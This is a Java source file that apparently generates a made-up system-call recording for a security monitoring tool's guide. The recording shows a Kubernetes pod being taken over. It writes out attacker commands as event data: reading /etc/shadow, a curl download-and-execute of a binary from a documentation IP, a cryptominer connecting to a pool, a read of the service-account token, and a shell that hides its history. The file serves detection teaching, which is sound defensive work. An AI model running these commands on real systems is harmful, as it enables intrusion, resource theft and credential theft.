// SPDX-License-Identifier: Apache-2.0
package io.shikra.app.guide;

import io.shikra.engine.event.ByteString;
import io.shikra.engine.event.EventCode;
import io.shikra.engine.event.EventTable;
import io.shikra.engine.event.EventWriter;
import io.shikra.engine.event.SocketTuple;
import io.shikra.engine.state.FdInfo;
import io.shikra.engine.state.HostState;
import io.shikra.engine.state.ProcessLookup;
import io.shikra.engine.state.StateEngine;
import io.shikra.engine.state.ThreadInfo;
import io.shikra.engine.state.UserInfo;
import io.shikra.sources.capture.CaptureException;
import io.shikra.sources.capture.CaptureWriter;
import io.shikra.sources.capture.MachineInfo;
import java.lang.foreign.MemorySegment;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/// The invented recording that the guide's examples run on, `docs/examples/session.scap`: a node on which somebody
/// works, a backup runs, and a web application in the pod `shop/web-0` is taken over.
final class ExampleSession {
    private static final String ID = "5da22791b362";
    private static final String HOST = "/system.slice";
    private static final String POD = "/kubepods.slice/pod3f0c5c5e/" + ID + "0123456789abcdef".repeat(3) + "0123";
    private static final String CONTAINER = """
            {"container":{"type":7,"id":"%s","full_id":"%s","name":"web","image":"registry.example/shop/web:2.4",\
            "imagerepo":"registry.example/shop/web","imagetag":"2.4","imageid":"","imagedigest":"",\
            "privileged":false,"is_pod_sandbox":false,"pod_sandbox_id":"0c9d52f71e3a","ip":"10.1.0.7",\
            "labels":{"io.kubernetes.pod.name":"web-0","io.kubernetes.pod.namespace":"shop",\
            "io.kubernetes.pod.uid":"3f0c5c5e-6d0b-4b7e-9c6f-0123456789ab","io.kubernetes.container.name":"web"},\
            "pod_sandbox_labels":{"app":"web"},"Mounts":[],"env":[],"port_mappings":[]}}""".formatted(ID, POD.substring(POD.lastIndexOf('/') + 1));

    private static final long BOOT = nanos("2026-03-01T08:00:00Z");
    private static final long BEGIN = nanos("2026-03-01T09:00:00Z");
    private static final long SECOND = 1_000_000_000;
    private static final long MILLISECOND = 1_000_000;

    private static final int ROOT = 0;
    private static final int ANNA = 1000;
    private static final int NODE = 1001;
    private static final int NO_LOGIN = -1;
    private static final int TERMINAL = 34816;

    /// What the kernel keeps of a name.
    private static final int LONGEST_COMM = 15;

    private static final int READ = 1;
    private static final int WRITE_NEW = 2 | 4 | 256;
    private static final int UPPER_LAYER = 2;
    private static final int LOWER_LAYER = 8;

    private final StateEngine engine = new StateEngine(HostState.detached(), ProcessLookup.NONE);
    private final EventWriter record = new EventWriter();
    private final MemorySegment memory = MemorySegment.ofArray(new byte[1 << 14]);
    private final List<byte[]> events = new ArrayList<>();
    private long now = BEGIN;

    /// A process as its system calls describe it.
    private static final class Program implements Cloneable {
        long pid;
        long vpid;
        long parent;
        String cgroup = HOST;
        int uid = ROOT;
        int login = NO_LOGIN;
        int tty;
        String cwd = "/";
        String environment = "PATH=/usr/bin";
        String path = "";
        List<String> args = List.of();

        Program(long pid, long parent, String path) {
            this.pid = pid;
            this.vpid = pid;
            this.parent = parent;
            this.path = path;
        }

        Program by(int user, int loginUser) {
            uid = user;
            login = loginUser;
            return this;
        }

        Program at(int terminal, String directory) {
            tty = terminal;
            cwd = directory;
            return this;
        }

        Program inPod(long itsPid) {
            cgroup = POD;
            vpid = itsPid;
            return at(tty, "/app");
        }

        Program child(long itsPid, long itsVpid) {
            try {
                Program child = (Program) clone();
                child.pid = itsPid;
                child.vpid = itsVpid;
                child.parent = pid;
                return child;
            } catch (CloneNotSupportedException e) {
                throw new AssertionError(e);
            }
        }

        String comm() {
            String name = path.substring(path.lastIndexOf('/') + 1);
            return name.substring(0, Math.min(name.length(), LONGEST_COMM));
        }
    }

    private ExampleSession() {
        engine.state().bootNs = BOOT;
    }

    static void write(Path file) throws CaptureException {
        ExampleSession session = new ExampleSession();
        session.happen();
        MachineInfo machine = new MachineInfo(4, 8L << 30, 4_194_304, "node-1", BOOT);
        try (CaptureWriter writer = CaptureWriter.create(file, false, machine, session.engine.state(), BEGIN)) {
            for (byte[] event : session.events) {
                writer.event(MemorySegment.ofArray(event), 0, 0);
            }
        }
    }

    private void happen() {
        account(ROOT, "root", "/root", "/bin/bash");
        account(ANNA, "anna", "/home/anna", "/bin/bash");
        there(new Program(1, 0, "/usr/lib/systemd/systemd"));
        there(new Program(640, 1, "/usr/sbin/sshd").by(ROOT, ANNA));
        Program bash =
                there(new Program(702, 640, "/usr/bin/bash").by(ANNA, ANNA).at(TERMINAL, "/home/anna"));
        Program cron = there(new Program(810, 1, "/usr/sbin/cron"));
        Program shim = there(new Program(900, 1, "/usr/bin/containerd-shim-runc-v2"));
        Program node =
                new Program(950, 900, "/usr/local/bin/node").by(NODE, NO_LOGIN).inPod(1);
        node.args = List.of("server.js");
        there(node);
        engine.bootstrapped();
        container();
        accountInPod(ROOT, "root", "/root");
        accountInPod(NODE, "node", "/home/node");

        somebodyWorks(bash);
        theBackupRuns(cron);
        theApplicationIsTakenOver(node);
        somebodyOpensAShellInThePod(shim);
    }

    private void somebodyWorks(Program bash) {
        Program cat = fork(bash, 2001, 2001);
        exec(cat, 0, "/usr/bin/cat", "/etc/hostname");
        open(cat, 3, "/etc/hostname", READ);
        exit(cat, 0);
    }

    private void theBackupRuns(Program cron) {
        now += SECOND;
        Program backup = fork(cron, 2010, 2010);
        exec(backup, 0, "/usr/local/bin/backup", "--all");
        open(backup, 3, "/etc/passwd", READ);
        open(backup, 4, "/etc/shadow", READ);
        exit(backup, 0);
    }

    private void theApplicationIsTakenOver(Program node) {
        now += SECOND;
        Program shell = fork(node, 2100, 31);
        exec(shell, LOWER_LAYER, "/bin/sh", "-c", "id; cat /etc/shadow");
        Program id = fork(shell, 2101, 32);
        exec(id, LOWER_LAYER, "/usr/bin/id");
        exit(id, 0);
        Program cat = fork(shell, 2102, 33);
        exec(cat, LOWER_LAYER, "/bin/cat", "/etc/shadow");
        open(cat, -13, "/etc/shadow", READ);
        exit(cat, 1);
        exit(shell, 1);

        now += SECOND;
        Program second = fork(node, 2110, 34);
        exec(
                second,
                LOWER_LAYER,
                "/bin/sh",
                "-c",
                "curl -so /tmp/Kworker http://198.51.100.7/k; chmod +x /tmp/Kworker; /tmp/Kworker");
        Program curl = fork(second, 2111, 35);
        exec(curl, LOWER_LAYER, "/usr/bin/curl", "-so", "/tmp/Kworker", "http://198.51.100.7/k");
        connect(curl, 5, "10.1.0.7", 51514, "198.51.100.7", 80);
        open(curl, 6, "/tmp/Kworker", WRITE_NEW);
        exit(curl, 0);
        Program chmod = fork(second, 2112, 36);
        exec(chmod, LOWER_LAYER, "/bin/chmod", "+x", "/tmp/Kworker");
        allowToRun(chmod, "/tmp/Kworker");
        exit(chmod, 0);
        Program miner = fork(second, 2113, 37);
        exec(miner, UPPER_LAYER, "/tmp/Kworker", "-o", "203.0.113.9:3333", "-p", "cGFzc3dvcmQ=");
        connect(miner, 4, "10.1.0.7", 40122, "203.0.113.9", 3333);
        open(miner, 5, "/var/run/secrets/kubernetes.io/serviceaccount/token", READ);
    }

    private void somebodyOpensAShellInThePod(Program shim) {
        now += SECOND;
        Program shell = shim.child(2200, 40).inPod(40);
        shell.tty = TERMINAL + 1;
        shell.environment = "HISTFILE=/dev/null";
        cloned(shim, shell);
        exec(shell, LOWER_LAYER, "/bin/bash");
        Program cat = fork(shell, 2201, 41);
        exec(cat, LOWER_LAYER, "/bin/cat", "/app/.ENV");
        open(cat, 3, "/app/.ENV", READ);
        exit(cat, 0);
    }

    private void account(int uid, String name, String home, String shell) {
        engine.state()
                .accounts
                .put(
                        ByteString.EMPTY,
                        new UserInfo(uid, uid, ByteString.of(name), ByteString.of(home), ByteString.of(shell)));
        engine.state().accounts.putGroup(ByteString.EMPTY, uid, ByteString.of(name));
    }

    private Program there(Program process) {
        ThreadInfo thread = new ThreadInfo();
        thread.tid = process.pid;
        thread.pid = process.pid;
        thread.vtid = process.vpid;
        thread.vpid = process.vpid;
        thread.ptid = process.parent;
        thread.sid = process.pid;
        thread.pgid = process.pid;
        thread.comm = ByteString.of(process.comm());
        thread.exe = ByteString.of(process.path);
        thread.exePath = ByteString.of(process.path);
        thread.args = process.args.stream().map(ByteString::of).toList();
        thread.env = List.of(ByteString.of(process.environment));
        thread.cwd = ByteString.of(process.cwd.endsWith("/") ? process.cwd : process.cwd + "/");
        thread.root = ByteString.of("/");
        thread.cgroups = List.of(ByteString.of("cpuset=" + process.cgroup));
        thread.uid = process.uid;
        thread.gid = process.uid;
        thread.loginUid = process.login;
        thread.tty = process.tty;
        thread.cloneTs = BOOT + process.pid * MILLISECOND;
        thread.flags = ThreadInfo.IS_MAIN_THREAD;
        FdInfo input = new FdInfo();
        input.type = FdInfo.FILE_V2;
        input.name = ByteString.of("/dev/null");
        thread.fds.put(0, input);
        engine.bootstrap(thread);
        return process;
    }

    private EventWriter event(int code, long tid) {
        now += MILLISECOND;
        return record.target(memory, 0).begin(EventTable.type(code), now, tid);
    }

    private void end() {
        byte[] bytes = new byte[record.end()];
        MemorySegment.copy(memory, 0, MemorySegment.ofArray(bytes), 0, bytes.length);
        events.add(bytes);
    }

    private void container() {
        event(EventCode.CONTAINER_JSON_E, -1).putString(ByteString.of(CONTAINER));
        end();
    }

    private void accountInPod(int uid, String name, String home) {
        event(EventCode.USER_ADDED_E, -1)
                .putI32(uid)
                .putI32(uid)
                .putString(ByteString.of(name))
                .putString(ByteString.of(home))
                .putString(ByteString.of("/bin/sh"))
                .putString(ByteString.of(ID));
        end();
    }

    private Program fork(Program parent, long pid, long vpid) {
        Program child = parent.child(pid, vpid);
        cloned(parent, child);
        return child;
    }

    private void cloned(Program parent, Program child) {
        cloned(parent, child.pid, parent.parent);
        cloned(child, 0, parent.pid);
    }

    private void cloned(Program process, long res, long parent) {
        event(EventCode.CLONE_X, process.pid).putI64(res);
        described(process, parent);
        record.putI32(0)
                .putI32(process.uid)
                .putI32(process.uid)
                .putI64(process.vpid)
                .putI64(process.vpid)
                .putI64(BOOT);
        end();
    }

    /// What clone and execve have in common: from `exe` to `cgroups`.
    private void described(Program process, long parent) {
        record.putString(ByteString.of(process.path)).putBytes(list(process.args));
        record.putI64(process.pid).putI64(process.pid).putI64(parent).putString(ByteString.of(process.cwd));
        record.putI64(1024).putI64(0).putI64(120).putI32(4200).putI32(1800).putI32(0);
        record.putString(ByteString.of(process.comm())).putBytes(list(List.of("cpuset=" + process.cgroup)));
    }

    private void exec(Program process, int flags, String path, String... args) {
        process.path = path;
        process.args = List.of(args);
        event(EventCode.EXECVE_X, process.pid).putI64(0);
        described(process, process.parent);
        record.putBytes(list(List.of(process.environment))).putI32(process.tty).putI64(process.vpid);
        record.putI32(process.login).putI32(flags).putI64(0).putI64(0).putI64(0);
        record.putI64(90210).putI64(BOOT).putI64(BOOT).putI32(process.uid).putString(ByteString.of(path));
        record.putI64(process.pid).putI32(process.uid).putString(ByteString.of(path));
        end();
    }

    private void open(Program process, long result, String path, int flags) {
        event(EventCode.OPENAT_X, process.pid).putI64(result).putI64(-100).putString(ByteString.of(path));
        record.putI32(flags).putI32(0).putI32(8).putI64(4711);
        end();
    }

    private void allowToRun(Program process, String path) {
        event(EventCode.FCHMODAT_X, process.pid)
                .putI64(0)
                .putI64(-100)
                .putString(ByteString.of(path))
                .putI32(493);
        end();
    }

    private void connect(Program process, long fd, String from, int fromPort, String to, int toPort) {
        event(EventCode.SOCKET_X, process.pid)
                .putI64(fd)
                .putI32(2)
                .putI32(1)
                .putI32(6)
                .putI32(0);
        end();
        byte[] source = end(from, fromPort);
        byte[] destination = end(to, toPort);
        byte[] tuple = new byte[1 + source.length + destination.length];
        tuple[0] = SocketTuple.INET;
        System.arraycopy(source, 0, tuple, 1, source.length);
        System.arraycopy(destination, 0, tuple, 1 + source.length, destination.length);
        byte[] address = new byte[1 + destination.length];
        address[0] = SocketTuple.INET;
        System.arraycopy(destination, 0, address, 1, destination.length);
        event(EventCode.CONNECT_X, process.pid)
                .putI64(0)
                .putBytes(tuple)
                .putI64(fd)
                .putBytes(address);
        end();
    }

    private void exit(Program process, int code) {
        event(EventCode.PROCEXIT_E, process.pid)
                .putI64((long) code << 8)
                .putI64(code)
                .putU8(0)
                .putU8(0)
                .putI64(process.parent);
        end();
    }

    private static byte[] end(String address, int port) {
        byte[] ip = InetAddress.ofLiteral(address).getAddress();
        return new byte[] {ip[0], ip[1], ip[2], ip[3], (byte) port, (byte) (port >> 8)};
    }

    private static byte[] list(List<String> items) {
        return items.stream()
                .map(item -> item + "\0")
                .reduce("", String::concat)
                .getBytes(StandardCharsets.UTF_8);
    }

    private static long nanos(String time) {
        return Instant.parse(time).getEpochSecond() * 1_000_000_000;
    }
}
